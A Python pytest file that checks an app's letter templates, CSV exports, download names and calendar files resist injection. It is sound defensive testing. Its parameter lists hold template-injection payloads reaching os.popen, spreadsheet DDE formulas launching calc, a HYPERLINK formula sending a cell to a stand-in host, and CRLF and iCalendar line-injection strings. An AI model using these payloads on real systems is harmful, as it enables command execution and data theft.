"""Nothing that is written in a letter's template, or typed by somebody, is run in a letter, a table or a calendar."""

from __future__ import annotations

import ast
import csv
import io
from datetime import UTC, date, datetime

import pytest
from icalendar import Calendar

from app.calendar_file import calendar_file
from app.csv_export import csv_of, csv_response, csv_safe
from processes.errors import DiagramRefused
from processes.models import ToldDate
from processes.operations.letters import fill_in
from processes.rules.letters import PLACEHOLDERS, unknown_placeholders

WORDS = dict.fromkeys(PLACEHOLDERS, "ord")
TEMPLATES = [
    "{{ ''.__class__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ config }}",
    "{{ 7*7 }}",
    "{{ mottagare.__class__ }}",
    "{{ mottagare|attr('__class__') }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{% import 'os' as os %}",
    "{% for x in range(10**10) %}x{% endfor %}",
    "{% raw %}",
    "{# a comment #}",
    "{0.__class__}",
    "{mottagare}",
    "{mottagare.__init__.__globals__}",
    "{:>999999999}",
    "${mottagare}",
    "{{ {{ mottagare }} }}",
    "{{ mottagare",
    "mottagare }}",
    "{{}}",
    "{{ }}",
    "{" * 100_000,
    "{{" * 50_000 + "}}" * 50_000,
    "{{ " + " " * 100_000,
    "{{ " + "x " * 100_000 + "}}",
]


@pytest.mark.parametrize("template", TEMPLATES, ids=lambda template: template[:30])
def test_a_template_that_hopes_to_be_run_is_refused(template, a_second):
    with a_second, pytest.raises(DiagramRefused, match="unknown placeholders"):
        fill_in(f"Hej {template}", WORDS)


def test_what_somebody_is_called_is_never_read_as_a_template():
    name = "{{ handlaggare }}{% x %}{0}\\1\\g<0>"
    assert fill_in("Till {{ mottagare }}.", WORDS | {"mottagare": name}) == f"Till {name}."


def test_every_letter_of_ours_names_only_what_stands_for_something(root):
    letters = sorted((root / "bpmn-diagrams").glob("*/letters/*"))
    assert letters
    assert [letter for letter in letters if unknown_placeholders(letter.read_text())] == []


FORMULAS = [
    '=HYPERLINK("http://ond.example/?"&A1,"klicka")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "＝1+1",
    "\0=1+1",
    "%0A=1+1",
    "|calc",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_looks_like_a_formula_stays_a_text(text):
    assert csv_safe(text).startswith("'")


@pytest.mark.parametrize("text", ['a";"=1+1', 'a\r\n"=1+1"', '"=1+1"', "a;=1+1", "'=1+1"])
def test_no_text_ends_its_own_cell(text):
    [_, row] = csv.reader(io.StringIO(csv_of(["x"], [[text]]).removeprefix("\ufeff")), delimiter=";")
    assert row == [text]


def test_numbers_stay_numbers_and_what_is_not_known_stays_empty():
    written = csv_of(["tal", "annat"], [[-5, None], [2.5, "Provgatan 1"]])
    assert written.splitlines()[1:] == ['"-5";""', '"2.5";"Provgatan 1"']


@pytest.mark.parametrize("name", ["a\r\nSet-Cookie: x", 'a"; x', "../a", "å", ""])
def test_a_file_to_save_has_a_name_of_ours(name):
    with pytest.raises(ValueError, match="no name"):
        csv_response(name, [], [])


def test_only_one_module_writes_tables_for_spreadsheets(modules):
    writers = [
        str(module)
        for module in modules
        for found in module.nodes(ast.Attribute)
        if isinstance(found.value, ast.Name) and found.value.id == "csv" and "riter" in found.attr
    ] + [
        f"{module} imports from csv"
        for module in modules
        for found in module.nodes(ast.ImportFrom)
        if found.module == "csv"
    ]
    assert writers == ["app/csv_export.py"]


@pytest.mark.parametrize(
    "said",
    ["a\r\nEND:VEVENT\r\nBEGIN:VALARM", "a\nATTENDEE:mailto:x@example.se", "a;b,c:d\\n", "a\r\n DTSTART"],
)
def test_no_text_begins_a_line_of_its_own_in_a_calendar(said: str) -> None:
    told = ToldDate(
        case_id=1, number=said, key=said, kind=said, on=date(2026, 3, 2), at=None, is_tentative=False,
        is_cancelled=False, sequence=0, changed_at=datetime(2026, 3, 2, tzinfo=UTC),
    )  # fmt: skip
    file = calendar_file(
        "Kvarboende", [told], lambda case_id: f"https://kvarboende.example/arenden/{case_id}"
    )
    lines = file.decode().replace("\r\n ", "").split("\r\n")
    assert not [line for line in lines if line.startswith(("ATTENDEE", "BEGIN:VALARM", "\n", "DTSTART:"))]
    assert lines.count("END:VEVENT") == 1
    assert [part.name for part in Calendar.from_ical(file).walk()] == ["VCALENDAR", "VEVENT"]
